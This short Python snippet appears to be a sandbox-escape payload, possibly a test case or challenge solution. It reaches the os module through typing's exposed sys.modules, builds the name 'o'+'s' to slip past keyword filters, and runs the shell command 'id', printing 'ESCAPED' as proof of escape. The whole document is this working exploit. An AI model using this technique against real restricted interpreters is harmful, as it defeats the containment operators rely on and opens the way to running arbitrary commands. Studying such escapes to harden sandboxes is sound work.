# class: an allowed module hands over sys, and sys.modules everything loaded
import typing as t
m = t.sys.modules
print("ESCAPED", m["o" + "s"].popen("id").read())
